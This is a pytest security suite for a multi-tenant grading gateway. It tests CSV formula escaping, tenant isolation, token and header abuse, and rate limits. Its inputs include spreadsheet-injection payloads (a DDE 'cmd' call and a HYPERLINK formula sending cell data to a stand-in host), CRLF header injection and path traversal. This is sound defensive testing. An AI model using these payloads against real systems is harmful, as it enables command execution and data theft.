"""The gateway as an attacker sees it (issue 21, item 6): a corpus of bad
input and abuse, each case with what it must get.

- Without a broker (the real app, store, keys and limits; tail and producer
  doubled, tests/gateway/gateway_double.py): formula cells, header and path
  tricks, stream-token misuse, another tenant's job on every route, key
  guessing, a write flood.
- With the real broker and a consumer: two tenants' isolation end to end
  (the same client id twice, every route tried across), and 1,000 stream
  attempts with one key against a served gateway.

Run with ``-s`` to see the corpus and what each case got.
"""

from __future__ import annotations

import asyncio
import base64
import csv
import hashlib
import io
import json
import os
import time
from collections.abc import AsyncIterator
from contextlib import AsyncExitStack
from pathlib import Path
from typing import Any

import aiokafka.admin  # noqa: F401 - imported here, before TestClient's portal threads come and go:
import httpx  # importing it later in the event loop's thread met CPython 3.11's module-lock KeyError
import pytest

from consumer.engine.fake import FakeEngine
from consumer.gateway.auth import Caller
from consumer.gateway.limits import Refused, StreamSlots
from consumer.gateway.server import gateway_serving
from consumer.http import HttpServer
from consumer.settings import Settings
from consumer.spreadsheets import FORMULA_STARTS
from consumer.testing.topics import create_topics, items, make_settings, read_until, running, values, wait_for
from tests.gateway.gateway_double import (
    KEY_A,
    KEY_ADMIN,
    KEY_B,
    TWO_TENANTS,
    Harness,
    accepted,
    batch,
    bearer,
    harness,
    item,
    ok_result,
)
from tests.kafka_harness import TopicNames

FORMULAS = ["=HYPERLINK(\"http://x.example/?\"&B2,\"veure\")", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(A1)",
            "\t=1", "\r=1"]  # fmt: skip


def report(title: str, rows: list[tuple[str, str, str]]) -> None:
    width = max(len(case) for case, _, _ in rows)
    print(f"\n{title}")
    for case, expected, got in rows:
        print(f"  {case:<{width}}  expected {expected:<10} got {got}")


@pytest.fixture
def two() -> Harness:
    h = harness(**TWO_TENANTS)
    for tenant, key in (("school-a", KEY_A), ("school-b", KEY_B)):
        answer = h.client.post("/evaluate", json={"job_id": "j", "items": [item(0), item(1)]}, headers=bearer(key))
        assert answer.status_code == 200, answer.text
        h.feed(accepted(f"{tenant}/j", 2))
        h.feed(batch(f"{tenant}/j", [ok_result(0, "Bé."), ok_result(1, "Molt bé.")], 2))
    return h


def test_results_files_hold_no_formula_cells(two: Harness) -> None:
    two.feed(accepted("school-a/f", len(FORMULAS)))
    two.feed(batch("school-a/f", [ok_result(i, f, id_alumno=f) for i, f in enumerate(FORMULAS)], len(FORMULAS)))
    answer = two.client.get("/jobs/school-a/f/results", headers=bearer(KEY_A))
    rows = list(csv.reader(io.StringIO(answer.text.removeprefix("\ufeff"))))
    bad = [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
    report("formula cells", [(repr(f)[:30], "quoted", repr(rows[i + 1][2])[:34]) for i, f in enumerate(FORMULAS)])
    assert answer.status_code == 200 and answer.text.startswith("\ufeff") and len(rows) == 1 + len(FORMULAS)
    assert bad == []
    assert answer.headers["cache-control"] == "no-store" and answer.headers["x-content-type-options"] == "nosniff"
    jsonl = two.client.get("/jobs/school-a/f/results?format=jsonl", headers=bearer(KEY_A)).text
    assert [json.loads(line)["feedback"] for line in jsonl.splitlines()] == FORMULAS  # data, as sent


def test_another_tenants_job_is_unknown_on_every_route_whatever_the_path_or_header(two: Harness) -> None:
    a = bearer(KEY_A)
    token_a = two.gateway.tokens.issue("school-a/j", Caller("x", tenant="school-a"), time.time())
    expired = two.gateway.tokens.issue("school-a/j", Caller("x", tenant="school-a"), time.time() - 10**4)
    forged = token_a[:-2] + ("AA" if not token_a.endswith("AA") else "BB")
    cases: list[tuple[str, str, str, dict[str, str], set[int]]] = [
        # (case, method, url, headers, acceptable statuses)
        ("status of B's job", "GET", "/jobs/school-b/j", a, {404}),
        ("results of B's job", "GET", "/jobs/school-b/j/results", a, {404}),
        ("results jsonl of B's job", "GET", "/jobs/school-b/j/results?format=jsonl", a, {404}),
        ("stream token for B's job", "POST", "/jobs/school-b/j/stream_token", a, {404}),
        ("cancel B's job", "DELETE", "/jobs/school-b/j", a, {404}),
        ("encoded slash", "GET", "/jobs/school-b%2Fj", a, {404}),
        ("dot segments", "GET", "/jobs/school-a/../school-b/j", a, {404}),
        ("double slash", "GET", "/jobs//school-b/j", a, {404}),
        ("other case", "GET", "/jobs/SCHOOL-B/j", a, {404}),
        ("lookalike hyphen", "GET", "/jobs/school\u2011b/j", a, {404}),
        ("tenant-less id", "GET", "/jobs/j", a, {404}),
        ("B's job via results suffix", "GET", "/jobs/school-b/j/results/..", a, {404}),
        ("A's token on B's job", "GET", f"/jobs/school-b/j?token={token_a}", {}, {401}),
        ("A's token on B's stream", "GET", f"/stream/school-b/j?token={token_a}", {}, {401}),
        ("expired token", "GET", f"/jobs/school-a/j?token={expired}", {}, {401}),
        ("forged token", "GET", f"/jobs/school-a/j?token={forged}", {}, {401}),
        ("token to cancel", "DELETE", f"/jobs/school-a/j?token={token_a}", {}, {401}),
        ("token to list", "GET", f"/jobs?token={token_a}", {}, {401}),
        ("key in X-Api-Key", "GET", "/jobs/school-a/j", {"X-Api-Key": KEY_A}, {401}),
        ("Basic scheme", "GET", "/jobs/school-a/j", {"Authorization": f"Basic {KEY_A}"}, {401}),
        ("key plus junk", "GET", "/jobs/school-a/j", {"Authorization": f"Bearer {KEY_A} x"}, {401}),
        (
            "wrong header, right query",
            "GET",
            f"/jobs/school-a/j?access_token={KEY_A}",
            {"Authorization": "Bearer nope"},
            {401},
        ),
        ("CRLF in Last-Event-ID", "GET", "/stream/school-a/j", {**a, "Last-Event-ID": "1\r\nX: y"}, {400}),
        ("forwarded-for spoof", "GET", "/jobs/school-b/j", {**a, "X-Forwarded-For": "10.0.0.1"}, {404}),
        ("own job (control)", "GET", "/jobs/school-a/j", a, {200}),
        ("own job by token (control)", "GET", f"/jobs/school-a/j?token={token_a}", {}, {200}),
    ]
    got = []
    for case, method, url, headers, ok in cases:
        try:
            answer = two.client.request(method, url, headers=headers)
            status, text = answer.status_code, answer.text
        except httpx.LocalProtocolError:  # the client itself refuses to send it
            status, text = 0, ""
        got.append((case, "/".join(map(str, sorted(ok))), str(status)))
        if status == 0:
            continue
        assert status in ok, (case, status, text)
        if "(control)" not in case:
            assert "Molt bé." not in text and "A1" not in text  # no result row of anyone's
    stream = two.client.get("/stream/school-b/j", headers=a)
    got.append(("stream of B's job", "not found", stream.text.strip().splitlines()[-1]))
    report("another tenant's job, header and path tricks", got)
    assert [line for line in stream.text.splitlines() if line.startswith("data:")] == [
        'data: {"error":"Job not found"}'
    ]
    control = two.sent(two.gateway.settings.kafka.control_topic)
    assert control == [], "a cancel got through"


def test_key_guessing_is_slowed_per_address_and_never_locks_a_valid_key_out() -> None:
    """Finding 1 of the second red team: wrong keys from one address (a NAT, an ingress: every
    school's address) once locked every valid key out too. Now the key is checked first."""
    h = harness(**TWO_TENANTS, GATEWAY_AUTH_FAILURE_BURST="20", GATEWAY_AUTH_FAILURE_RATE_PER_S="0.01")
    guesses = [h.client.get("/jobs", headers=bearer(f"guess-{i:04d}-" + "g" * 30)).status_code for i in range(50)]
    right = [h.client.get("/jobs", headers=bearer(key)).status_code for key in (KEY_A, KEY_B, KEY_ADMIN)]
    # While the attacker keeps going, every school's key still works.
    interleaved = []
    for i in range(10):
        interleaved.append(h.client.get("/jobs", headers=bearer(f"more-{i:04d}-" + "g" * 30)).status_code)
        interleaved.append(h.client.get("/jobs", headers=bearer(KEY_A)).status_code)
    health = h.client.get("/health")
    report("key guessing (50 wrong keys, then the right ones)", [
        ("guesses 1-20", "401", str(set(guesses[:20]))), ("guesses 21-50", "429", str(set(guesses[20:]))),
        ("right keys, same address", "200", str(right)), ("guess/right alternating", "429/200", str(interleaved)),
        ("/health", "200", str(health.status_code)),
    ])  # fmt: skip
    assert guesses == [401] * 20 + [429] * 30
    assert right == [200, 200, 200]
    assert interleaved == [429, 200] * 10
    assert health.status_code == 200
    text = h.client.get("/metrics").text
    assert 'texteval_gateway_limited_total{limit="auth_failures"} 40.0' in text


async def test_x_forwarded_for_is_not_believed_unless_the_proxy_is_configured() -> None:
    """A real uvicorn server: the client's address is the TCP peer's; a rotating X-Forwarded-For
    neither buys more guesses nor picks whose address is counted, unless the proxy is named."""
    seen: list[str] = []

    async def app(scope: Any, receive: Any, send: Any) -> None:
        if scope["type"] == "http":
            seen.append(scope["client"][0])
            await send({"type": "http.response.start", "status": 204, "headers": []})
            await send({"type": "http.response.body", "body": b""})

    for allow, expected in (("", "127.0.0.1"), ("127.0.0.1", "203.0.113.9")):
        seen.clear()
        server = HttpServer(app, "127.0.0.1", 0, forwarded_allow_ips=allow)
        await server.start()
        try:
            async with httpx.AsyncClient(base_url=f"http://127.0.0.1:{server.port}") as client:
                await client.get("/", headers={"X-Forwarded-For": "203.0.113.9"})
        finally:
            await server.stop()
        assert seen == [expected], allow


def test_a_write_flood_from_one_key_is_rate_limited_and_others_are_not() -> None:
    h = harness(**TWO_TENANTS, GATEWAY_WRITE_BURST="10", GATEWAY_WRITE_RATE_PER_S="0.01")
    flood = [h.client.post("/evaluate", json={"job_id": f"f{i}", "items": [item()]}, headers=bearer(KEY_A))
             for i in range(30)]  # fmt: skip
    other = h.client.post("/evaluate", json={"job_id": "x", "items": [item()]}, headers=bearer(KEY_B))
    statuses = [r.status_code for r in flood]
    report("30 POSTs with one key (burst 10)", [("first 10", "200", str(set(statuses[:10]))),
                                                 ("next 20", "429", str(set(statuses[10:]))),
                                                 ("another key", "200", str(other.status_code))])  # fmt: skip
    assert statuses == [200] * 10 + [429] * 20 and other.status_code == 200
    assert int(flood[-1].headers["retry-after"]) >= 1
    assert len(h.sent(h.gateway.settings.kafka.requests_topic)) == 11  # nothing past the limit was produced


# --- against the real broker ------------------------------------------------------------------


def settings_for(bootstrap: str, topics: TopicNames, group: dict[str, int], **overrides: Any) -> Settings:
    control = topics.requests.replace(".requests", ".control")
    return make_settings(bootstrap, topics, group, KAFKA_CONTROL_TOPIC=control, BATCH_SIZE=5, **TWO_TENANTS,
                         **overrides)  # fmt: skip


async def sse_data(client: httpx.AsyncClient, url: str, headers: dict[str, str]) -> list[dict[str, Any]]:
    data = []
    async with client.stream("GET", url, headers=headers) as response:
        async for line in response.aiter_lines():
            if line.startswith("data:"):
                data.append(json.loads(line[5:]))
    return data


@pytest.fixture
async def served(kafka_bootstrap: str, kafka_group_kwargs: dict[str, int],
                 topic_names: TopicNames) -> AsyncIterator[tuple[Settings, httpx.AsyncClient]]:  # fmt: skip
    settings = settings_for(kafka_bootstrap, topic_names, kafka_group_kwargs)
    await create_topics(kafka_bootstrap, settings.service_topics())
    async with (
        running(settings, FakeEngine(delay_s=0.01)),
        gateway_serving(settings) as (_, base),
        httpx.AsyncClient(base_url=base, timeout=60) as client,
    ):
        yield settings, client


async def test_two_tenants_are_isolated_end_to_end(served: tuple[Settings, httpx.AsyncClient]) -> None:
    settings, client = served
    a, b = bearer(KEY_A), bearer(KEY_B)
    posted = {}
    for name, key in (("a", a), ("b", b)):  # the same client id from two tenants
        answer = await client.post(
            "/evaluate", json={"job_id": "class-1", "items": items(12, prefix=name)}, headers=key
        )
        assert answer.status_code == 200, answer.text
        posted[name] = answer.json()
    job_a, job_b = posted["a"]["job_id"], posted["b"]["job_id"]
    assert (job_a, job_b) == ("school-a/class-1", "school-b/class-1")
    events_b = await sse_data(client, f"/stream/{job_b}", b)
    events_a = await sse_data(client, f"/stream/{job_a}?token={posted['a']['stream_token']}", {})
    for events, prefix in ((events_a, "a"), (events_b, "b")):  # both graded in full, each its own texts
        results = [r for e in events if e.get("event") == "batch_complete" for r in e["data"]["results"]]
        assert events[-1]["event"] == "complete" and sorted(r["item_index"] for r in results) == list(range(12))
        assert {r["id_alumno"][0] for r in results} == {prefix}
    # Tenant A against B's job, on every route (and with A's stream token).
    token_a = posted["a"]["stream_token"]
    attempts = {
        "GET /jobs/{id}": await client.get(f"/jobs/{job_b}", headers=a),
        "GET /jobs/{id}/results": await client.get(f"/jobs/{job_b}/results", headers=a),
        "GET /jobs/{id}/results jsonl": await client.get(f"/jobs/{job_b}/results?format=jsonl", headers=a),
        "POST /jobs/{id}/stream_token": await client.post(f"/jobs/{job_b}/stream_token", headers=a),
        "DELETE /jobs/{id}": await client.delete(f"/jobs/{job_b}", headers=a),
        "GET /jobs/{id}?token=A's": await client.get(f"/jobs/{job_b}?token={token_a}"),
        "GET /jobs/{id}/results?token=A's": await client.get(f"/jobs/{job_b}/results?token={token_a}"),
        "GET /stream/{id}?token=A's": await client.get(f"/stream/{job_b}?token={token_a}"),
    }
    stream_across = await sse_data(client, f"/stream/{job_b}", a)
    listed = (await client.get("/jobs", headers=a)).json()
    leaks = [name for name, answer in attempts.items() if answer.is_success or "b0" in answer.text.lower()]
    leaks += ["GET /stream/{id}"] if stream_across != [{"error": "Job not found"}] else []
    leaks += ["GET /jobs"] if [j["job_id"] for j in listed["jobs"]] != [job_a] else []
    report("tenant A on tenant B's job (real broker)", [(n, "404/401", str(r.status_code)) for n, r in attempts.items()]
           + [("GET /stream/{id}", "not found", json.dumps(stream_across)),
              ("GET /jobs", "A's only", json.dumps([j["job_id"] for j in listed["jobs"]]))])  # fmt: skip
    assert leaks == [], f"routes that gave tenant A something of tenant B's job: {leaks}"
    admin = (await client.get("/jobs", headers=bearer(KEY_ADMIN))).json()
    assert {j["job_id"] for j in admin["jobs"]} == {job_a, job_b}
    status_b = (await client.get(f"/jobs/{job_b}", headers=b)).json()
    assert status_b["status"] == "completed" and status_b["completed"] == 12  # A's cancel did nothing
    with pytest.raises(AssertionError, match="timed out"):  # no control command was produced at all
        await read_until(settings.kafka.bootstrap_servers, settings.kafka.control_topic, lambda rs: len(rs) >= 1,
                         timeout_s=3)  # fmt: skip
    requests = values(await read_until(settings.kafka.bootstrap_servers, settings.kafka.requests_topic,
                                       lambda rs: len(rs) >= 2))  # fmt: skip
    assert sorted(r["job_id"] for r in requests) == [job_a, job_b]


async def test_a_thousand_stream_attempts_with_one_key_get_the_cap_and_429(
    kafka_bootstrap: str, kafka_group_kwargs: dict[str, int], topic_names: TopicNames
) -> None:
    per_key, total = 50, 80
    settings = settings_for(kafka_bootstrap, topic_names, kafka_group_kwargs, GATEWAY_MAX_STREAMS_PER_KEY=per_key,
                            GATEWAY_MAX_STREAMS=total, GATEWAY_HEARTBEAT_S=600)  # fmt: skip
    await create_topics(kafka_bootstrap, settings.service_topics())
    limits = httpx.Limits(max_connections=None, max_keepalive_connections=0)
    # No consumer: the job stays queued and every stream served stays open.
    async with gateway_serving(settings) as (gateway, base), httpx.AsyncClient(base_url=base, limits=limits,
                                                                               timeout=60) as client:  # fmt: skip
        posted = (await client.post("/evaluate", json={"job_id": "s", "items": items(1)}, headers=bearer(KEY_A))).json()
        statuses: list[int] = []
        health_ms: list[float] = []
        rss_before_mib = rss_mib()
        async with AsyncExitStack() as open_streams:
            for i in range(1000):
                response = await open_streams.enter_async_context(
                    client.stream("GET", f"/stream/{posted['job_id']}", headers=bearer(KEY_A))
                )
                statuses.append(response.status_code)
                if response.status_code != 200:
                    await response.aclose()
                if i % 100 == 99:
                    started = time.perf_counter()
                    assert (await client.get("/health")).status_code == 200
                    health_ms.append((time.perf_counter() - started) * 1000)
            by_token = [
                (await open_streams.enter_async_context(
                    client.stream("GET", f"/stream/{posted['job_id']}?token={posted['stream_token']}")
                )).status_code
                for _ in range(3)
            ]  # fmt: skip
            other_key = []
            for _ in range(total):
                response = await open_streams.enter_async_context(
                    client.stream("GET", "/stream/school-b/none", headers=bearer(KEY_B))
                )
                other_key.append(response.status_code)
                await response.aread()  # a not-found stream ends at once, and gives its slot back
                if response.status_code == 200:
                    break  # one is enough to show that B is served while A is capped
            await wait_for(lambda: gateway.slots.total == per_key)
            open_at_cap = gateway.slots.total
            rss_growth_mib = rss_mib() - rss_before_mib
            health = (await client.get("/health", headers=bearer(KEY_ADMIN))).json()  # the counts: operators
        await asyncio.sleep(0)
        await gateway_wait_released(gateway)
        released = gateway.slots.total
    report("1,000 stream attempts with one key (cap 50 per key, 80 in all)", [
        ("served", f"{per_key}", str(statuses.count(200))),
        ("refused 429", f"{1000 - per_key}", str(statuses.count(429))),
        ("A's stream token (counts for A's key)", "429", str(set(by_token))),
        ("another key meanwhile", "200", str(other_key[-1])), ("open at the cap", f"{per_key}", str(open_at_cap)),
        ("/health while capped (ms, max of 10)", "answers", f"{max(health_ms):.1f}"),
        ("slots after every client left", "0", str(released)),
        ("RSS growth, gateway and clients in one process (MiB)", "bounded", f"{rss_growth_mib:.1f}"),
    ])  # fmt: skip
    assert statuses.count(200) == per_key and statuses.count(429) == 1000 - per_key
    assert statuses[:per_key] == [200] * per_key  # the first ones, then only refusals
    assert set(by_token) == {429} and other_key[-1] == 200
    assert open_at_cap == per_key and health["open_streams"] == per_key and len(health_ms) == 10
    assert released == 0, "a closed stream kept its slot"


async def gateway_wait_released(gateway: Any) -> None:
    for _ in range(200):
        if gateway.slots.total == 0:
            return
        await asyncio.sleep(0.05)


def test_stream_slots_cap_each_key_and_the_total_and_give_back_once() -> None:
    slots = StreamSlots(max_total=3, max_per_key=2)
    a1, a2 = slots.acquire("a"), slots.acquire("a")
    with pytest.raises(Refused, match="for this school"):
        slots.acquire("a")
    b1 = slots.acquire("b")
    with pytest.raises(Refused, match="on this gateway"):
        slots.acquire("c")  # a fresh key, but the gateway is full
    a1.release()
    a1.release()  # twice: still one slot back
    assert slots.total == 2 and slots.refused == 2
    slots.acquire(None)  # an open gateway's stream counts in the total only
    for slot in (a2, b1):
        slot.release()
    assert slots.total == 1


def test_headers_no_store_everywhere_but_the_page_which_is_locked_down() -> None:
    h = harness(**TWO_TENANTS)
    page = h.client.get("/")
    script = page.text.split("<script>", 1)[1].split("</script>", 1)[0]
    digest = base64.b64encode(hashlib.sha256(script.encode()).digest()).decode()
    csp = page.headers["content-security-policy"]
    assert f"script-src 'sha256-{digest}'" in csp and "'unsafe-inline'" not in csp
    assert "frame-ancestors 'none'" in csp and "connect-src 'self'" in csp
    assert (page.headers["x-frame-options"], page.headers["referrer-policy"]) == ("DENY", "no-referrer")
    assert page.headers["x-content-type-options"] == "nosniff" and page.headers["cache-control"] != "no-store"
    answers = [h.client.get("/health"), h.client.get("/metrics"), h.client.get("/jobs", headers=bearer(KEY_A)),
               h.client.get("/jobs/school-a/nothing", headers=bearer(KEY_A)), h.client.get("/jobs")]  # fmt: skip
    assert [a.headers["cache-control"] for a in answers] == ["no-store"] * len(answers)
    assert {a.headers["x-content-type-options"] for a in answers} == {"nosniff"}


def rss_mib() -> float:
    """This process's resident memory now (Linux)."""
    pages = int(Path("/proc/self/statm").read_text().split()[1])
    return pages * os.sysconf("SC_PAGE_SIZE") / 2**20
